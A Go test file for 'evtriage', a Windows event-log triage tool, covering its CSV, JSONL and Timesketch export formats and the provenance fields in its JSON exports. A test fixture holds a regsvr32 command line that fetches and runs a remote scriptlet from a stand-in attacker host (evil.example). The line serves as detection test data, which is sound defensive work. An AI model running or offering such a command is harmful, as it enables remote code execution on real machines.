package main

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/evtriage/evtriage/parser"
	"github.com/evtriage/evtriage/rules"
)

// undatedLog is a log of two regsvr32 starts the built-in pack reports,
// the second without a time (TimeCreated 0).
func undatedLog(t *testing.T) string {
	mk := func(rec uint64, when time.Time, g string) *parser.Event {
		return &parser.Event{
			Provider: "Microsoft-Windows-Sysmon", Channel: "Microsoft-Windows-Sysmon/Operational",
			Computer: "WS1", EventID: 1, RecordID: rec, Time: when,
			Fields: []parser.Field{
				{Name: "ProcessGuid", Value: "{11111111-2222-3333-4444-55555555555" + g + "}"},
				{Name: "ProcessId", Value: "4" + g},
				{Name: "Image", Value: `C:\Windows\System32\regsvr32.exe`},
				{Name: "CommandLine", Value: `regsvr32 /s /u /i:http://evil.example/x.sct scrobj.dll`},
				{Name: "CurrentDirectory", Value: `C:\Users\x\`},
				{Name: "ParentProcessGuid", Value: "{11111111-2222-3333-4444-000000000001}"},
				{Name: "ParentProcessId", Value: "41"},
				{Name: "ParentImage", Value: `C:\Windows\explorer.exe`},
			},
		}
	}
	return writeLog(t, t.TempDir(), "undated.evtx", []*parser.Event{
		mk(1, time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC), "1"),
		mk(2, time.Time{}, "2"),
	})
}

// TestHuntFormats: --format csv and timesketch, and the format -o's name
// implies.
func TestHuntFormats(t *testing.T) {
	shared := sharedLogs(t)
	undated := undatedLog(t)
	dir := t.TempDir()
	tests := []struct {
		name   string
		args   []string
		out    string // file -o names, read instead of stdout
		code   int
		first  string // the output's first line starts so
		stderr []string
		noFile bool
	}{
		{name: "csv from -o's name", args: []string{shared}, out: "a.csv", first: "time,host,level,rule_title,rule_id,event_id,channel,"},
		{name: "csv named", args: []string{"--format", "csv", shared}, first: "time,host,level,"},
		{name: "csv to standard output by -", args: []string{"--format", "CSV", "-o", "-", shared}, first: "time,host,"},
		{name: "jsonl from -o's name", args: []string{shared}, out: "a.jsonl", first: `{"export":{"tool":`},
		{name: "timesketch", args: []string{"--format", "timesketch", shared}, out: "ts.jsonl", first: `{"message":"`},
		{name: "timesketch needs .jsonl", args: []string{"--format", "timesketch", shared}, out: "ts.json", code: exitUsage,
			stderr: []string{"Timesketch imports only from a file named *.jsonl"}, noFile: true},
		{name: "timesketch to a device", args: []string{"--format", "timesketch", "-o", os.DevNull, shared}},
		{name: "timesketch leaves undated findings out", args: []string{"--format", "timesketch", undated}, code: exitPartial,
			first:  `{"message":"`,
			stderr: []string{"record 2 (offset", "no time Timesketch can place", "1 of 2 findings left out of the Timesketch export"}},
		{name: "csv keeps undated findings", args: []string{"--format", "csv", undated}, first: "time,"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			args := append([]string{"hunt"}, tc.args...)
			path := ""
			if tc.out != "" {
				path = filepath.Join(dir, tc.out)
				args = append(args, "-o", path)
			}
			code, stdout, stderr := runCapture(t, args...)
			if code != tc.code {
				t.Fatalf("exit %d, want %d; stderr:\n%s", code, tc.code, stderr)
			}
			for _, s := range tc.stderr {
				if !strings.Contains(stderr, s) {
					t.Errorf("stderr lacks %q:\n%s", s, stderr)
				}
			}
			got := stdout
			if path != "" {
				data, err := os.ReadFile(path)
				if tc.noFile {
					if err == nil {
						t.Errorf("%s was written", tc.out)
					}
					return
				}
				if err != nil {
					t.Fatal(err)
				}
				got = string(data)
			}
			if !strings.HasPrefix(got, tc.first) {
				t.Errorf("output starts %.80q, want %q", got, tc.first)
			}
		})
	}
	// The undated finding is in the CSV (its time left empty; it sorts
	// first), not in Timesketch.
	_, out, _ := runCapture(t, "hunt", "--format", "csv", undated)
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 3 || (rows[1][0] == "") == (rows[2][0] == "") {
		t.Errorf("csv of the undated log: %v rows %q", err, rows)
	}
}

// TestExportRecordsProvenance: an export says what produced it: the
// version, the command line, the rule set (ids, digest) and the filter.
func TestExportRecordsProvenance(t *testing.T) {
	shared := sharedLogs(t)
	args := []string{"hunt", "--format", "json", "--min-level", "medium", shared}
	code, stdout, stderr := runCapture(t, args...)
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	var doc struct {
		Tool struct {
			Name, Version, Commit string
		}
		Command   []string
		Complete  bool
		Selection *struct {
			Screen bool
			Filter struct {
				MinLevel string `json:"min_level"`
			}
			Subtree *int
		}
		Rules struct {
			Loaded int
			IDs    []string
			Digest string
		}
	}
	if err := json.Unmarshal([]byte(stdout), &doc); err != nil {
		t.Fatal(err)
	}
	set := rules.Load(rules.LoadOptions{})
	var ids []string
	for _, r := range set.Rules() {
		ids = append(ids, r.ID)
	}
	switch {
	case doc.Tool.Name != "evtriage" || doc.Tool.Version != version:
		t.Errorf("tool %+v", doc.Tool)
	case strings.Join(doc.Command, " ") != strings.Join(args, " "):
		t.Errorf("command %q, want %q", doc.Command, args)
	case !doc.Complete:
		t.Error("not complete")
	case doc.Selection == nil || doc.Selection.Screen || doc.Selection.Filter.MinLevel != "medium" || doc.Selection.Subtree != nil:
		t.Errorf("selection %+v", doc.Selection)
	case doc.Rules.Loaded != len(ids) || strings.Join(doc.Rules.IDs, ",") != strings.Join(ids, ","):
		t.Errorf("rules %d %v, want %v", doc.Rules.Loaded, doc.Rules.IDs, ids)
	case doc.Rules.Digest != set.Digest():
		t.Errorf("digest %q, want %q", doc.Rules.Digest, set.Digest())
	}
}
